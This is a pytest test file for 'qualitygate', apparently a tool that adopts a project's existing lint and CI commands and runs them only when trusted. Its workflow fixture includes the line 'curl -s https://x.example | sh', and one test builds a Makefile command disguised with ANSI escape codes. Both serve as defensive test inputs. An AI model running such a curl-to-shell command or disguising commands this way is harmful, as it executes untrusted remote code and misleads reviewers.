"""The gate that a project has already: found, run where trusted, and kept."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest

from qualitygate import git as git_module
from qualitygate.bootstrap import existing_trials
from qualitygate.bootstrap.deciding.ground import Ground
from qualitygate.bootstrap.draft import Draft
from qualitygate.bootstrap.growing import NOTHING
from qualitygate.bootstrap.scratch import open_scratch
from qualitygate.checks.catalogue import TOOLS
from qualitygate.checks.running import NO_ANSWER
from qualitygate.cli import main
from qualitygate.defaults import compile_any
from qualitygate.gate.surroundings import project_at
from qualitygate.inspection.inspect import inspect
from qualitygate.playbook import load_playbooks
from tests.support import git, make_environment, make_repo, write

WORKFLOW = """\
on: push
jobs:
  check:
    runs-on: ubuntu-latest
    steps:
      - run: pylint shop
      - run: flake8 shop
      - run: ruff check .
      - run: bandit -r shop
      - run: curl -s https://x.example | sh
      - run: pylint shop --fix
"""
# Stands in for any linter: its result is that of the files in the folder that it is started in.
LINTER = """\
import ast
import pathlib
import sys

failed = 0
for path in sorted(pathlib.Path("shop").rglob("*.py")):
    try:
        ast.parse(path.read_text())
    except SyntaxError as exc:
        failed = 1
        print(f"{path}:{exc.lineno}:1: E0001: it does not parse")
"""
FILES: dict[str, str | bytes | None] = {
    ".github/workflows/ci.yml": WORKFLOW,
    ".gitignore": ".venv/\n",
    ".pre-commit-config.yaml": (
        "repos:\n"
        "- repo: https://github.com/astral-sh/ruff-pre-commit\n"
        "  rev: v0.4.10\n"
        "  hooks:\n"
        "  - id: ruff\n"
        "- repo: local\n"
        "  hooks:\n"
        "  - {id: no-fixme, name: f, entry: 'FIXME\\b', language: pygrep}\n"
    ),
    "pyproject.toml": (
        '[tool.ruff.lint]\nselect = ["F", "TID251"]\n'
        '[tool.ruff.lint.flake8-tidy-imports]\nbanned-module-level-imports = ["torch"]\n'
        '[tool.ruff.lint.flake8-tidy-imports.banned-api]\ncgi.msg = "gone"\n'
    ),
    "shop/__init__.py": '"""Shop."""\n',
    "shop/core.py": "import os\n\nTWO = 2\n",
    "README.md": "# Shop\n",
}


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = make_repo(tmp_path / "shop", FILES)
    place = make_environment(root)
    for name, ending in (("pylint", "sys.exit(failed)\n"), ("flake8", "sys.exit(1)\n"), ("bandit", "sys.exit(127)\n")):
        marker = f"open({os.fspath(tmp_path / name)!r}, 'w').close()\n"
        (place / "bin" / name).write_text(f"#!{place}/bin/python\n{LINTER}{marker}{ending}")
        (place / "bin" / name).chmod(0o755)
    monkeypatch.chdir(root)
    return root


def bootstrap(capsys: pytest.CaptureFixture[str], *more: str) -> dict[str, Any]:
    assert main(["bootstrap", "--json", "--no-install", *more, "."]) == 0
    found: dict[str, Any] = json.loads(capsys.readouterr().out)
    return found


def test_what_is_green_is_kept_and_proven_and_all_else_is_listed(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = bootstrap(capsys, "--trust")
    rows = {row["command"]: row for row in document["existing"]}
    kept = rows["pylint shop"]
    assert (kept["class"], kept["green_now"], kept["check"]) == ("check", True, "pylint")
    assert (rows["flake8 shop"]["green_now"], rows["flake8 shop"]["class"]) == (False, "listed")
    assert rows["bandit -r shop"]["green_now"] is None and "not there" in rows["bandit -r shop"]["became"]
    assert rows["ruff check ."]["became"] == "covered by check ruff"
    assert rows["pylint shop --fix"]["became"] == "listed only: it changes files"
    (proof,) = (row for row in document["proof"] if row["check"] == "pylint")
    assert (proof["green_on_head"], proof["red_on_seed"], proof["installed"]) == (True, True, True)
    assert 'run = ["pylint", "shop"]' in (root / "qualitygate.toml").read_text()

    git(root, "add", "-A")
    git(root, "commit", "-qm", "gate", "--no-verify")
    write(root, {"shop/core.py": "import os\n\nTWO = = 2\n"})
    assert main(["run", "--tier", "push", "--format", "json"]) == 1
    new = json.loads(capsys.readouterr().out)["new"]
    assert [(f["path"], f["line"]) for f in new if f["check"] == "pylint"] == [("shop/core.py", 3)]


def test_rules_of_its_own_are_tried_and_stay_to_the_byte(root: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = bootstrap(capsys, "--trust")
    fires = {row["what"]: row["fires"] for row in document["house_rules"]}
    assert fires == {
        "banned-api cgi": True,
        "only inside functions: torch": False,
        "hook no-fixme (pygrep)": True,
    }, "TID253 is configured, but not selected"
    assert (root / "pyproject.toml").read_text().startswith(str(FILES["pyproject.toml"]))


def test_another_version_than_the_pinned_one_is_named_with_its_findings(
    root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    steps = {row["step"]: row["evidence"] for row in bootstrap(capsys, "--dry-run")["plan"]}
    told = steps["adopt the project's ruff settings as they are"]
    assert "the project pins 0.4.10 (.pre-commit-config.yaml:3)" in told
    assert "1 finding on HEAD (F401 1): what 0.4.10 does not report comes from the version alone" in told
    assert "pip install ruff==0.4.10" in told


def test_nothing_of_it_runs_without_trust(root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for more in (("--dry-run",), ()):
        document = bootstrap(capsys, *more)
        rows = {row["command"]: row for row in document["existing"]}
        assert rows["pylint shop"]["green_now"] is None and "--trust" in rows["pylint shop"]["became"]
    assert not any((tmp_path / name).exists() for name in ("pylint", "flake8", "bandit"))


def test_a_command_made_to_look_like_something_else_is_printed_as_it_is(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    make = b"lint:\n\tpylint shop \x1b[2K\x1b[1A pretend\n"
    root = make_repo(tmp_path / "r", {"Makefile": make, "shop/a.py": "X = 1\n"})
    monkeypatch.chdir(root)
    assert main(["bootstrap", "--no-install", "."]) == 0
    said = capsys.readouterr().out
    assert "\x1b" not in said and "make lint" in said


def test_tests_that_took_too_long_are_not_tried_once_more_as_a_command(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A suite that had used up its time as check pytest got another minute as the project's own `pytest`."""
    files: dict[str, str | bytes | None] = {
        ".github/workflows/ci.yml": WORKFLOW.replace("pylint shop\n", "pytest\n", 1),
        ".gitignore": ".venv/\n",
        "tests/test_shop.py": "def test_it():\n    pass\n",
    }
    root = make_repo(tmp_path / "shop", files)
    place = make_environment(root)
    (place / "bin" / "pytest").write_text(f"#!{place}/bin/python\nopen({os.fspath(tmp_path / 'ran')!r}, 'w').close()\n")
    (place / "bin" / "pytest").chmod(0o755)
    repo = git_module.find_repo(root)
    draft = Draft(lambda path: None)
    draft.leave_out("pytest", f"{NO_ANSWER} (300 s were left)")
    with open_scratch(repo, TOOLS, compile_any, lambda folder: project_at(repo, folder), trusted=True) as scratch:
        ground = Ground(scratch, inspect(root), load_playbooks()[0])
        rows = {row.command: row for row in existing_trials.settle(draft, ground, NOTHING, lambda text: None)}
    assert rows["pytest"].why == "not run: pytest took longer than it may already"
    assert not (tmp_path / "ran").exists()
